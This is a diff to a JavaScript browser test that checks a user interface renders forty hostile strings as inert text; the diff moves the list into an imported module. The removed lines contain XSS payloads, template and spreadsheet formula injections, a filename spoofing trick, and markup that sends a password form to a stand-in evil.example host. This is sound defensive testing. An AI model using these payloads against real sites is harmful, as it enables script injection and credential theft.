@@ -1,50 +1,7 @@
 /** Forty strings that try to be markup, script or an address, as names, accounts, organisations, groups and words of the
  * backend: each is shown as text, none runs, none loads anything, none breaks out of its pane. */
 import { open } from "./browser.mjs";
-
-const RLO = "\u202e";
-const STRINGS = [
-  "<script>alert(1)</script>",
-  "<img src=x onerror=alert(1)>",
-  "<svg onload=alert(1)>",
-  "<svg><script>alert(1)</script></svg>",
-  '"><script>alert(1)</script>',
-  "'><img src=x onerror=alert(1)>",
-  "</title><script>alert(1)</script>",
-  "</textarea><script>alert(1)</script>",
-  "<iframe src=javascript:alert(1)>",
-  "<a href=javascript:alert(1)>x</a>",
-  "javascript:alert(1)",
-  "data:text/html,<script>alert(1)</script>",
-  "<body onload=alert(1)>",
-  "<style>*{display:none}</style>",
-  "<link rel=stylesheet href=//evil.example/x.css>",
-  "<meta http-equiv=refresh content=0;url=//evil.example>",
-  "<base href=//evil.example/>",
-  "<form action=//evil.example><input name=password>",
-  "<details open ontoggle=alert(1)>",
-  "<video><source onerror=alert(1)>",
-  "<math><mi xlink:href=javascript:alert(1)>",
-  "<template><script>alert(1)</script></template>",
-  "<!--<script>alert(1)</script>-->",
-  "<![CDATA[<script>alert(1)</script>]]>",
-  "{@html '<b>x</b>'}",
-  "{{constructor.constructor('alert(1)')()}}",
-  "${alert(1)}",
-  "{name} {n|one|many} {seconds}",
-  "$& $1 $` $'",
-  "%3Cscript%3Ealert(1)%3C/script%3E",
-  "&lt;script&gt;alert(1)&lt;/script&gt;",
-  "\\u003cscript\\u003ealert(1)",
-  `${RLO}gpj.exe`,
-  "\u200b\u200d\ufeff",
-  "a\u0300".repeat(60),
-  "=cmd|' /C calc'!A0",
-  "W".repeat(400),
-  "不".repeat(300),
-  "line\nbreak\r\nand\ttab",
-  "😀".repeat(80),
-];
+import { STRINGS } from "./hostile_strings.mjs";
 
 const { page, close } = await open();
 const shown = await page("lang=en", {
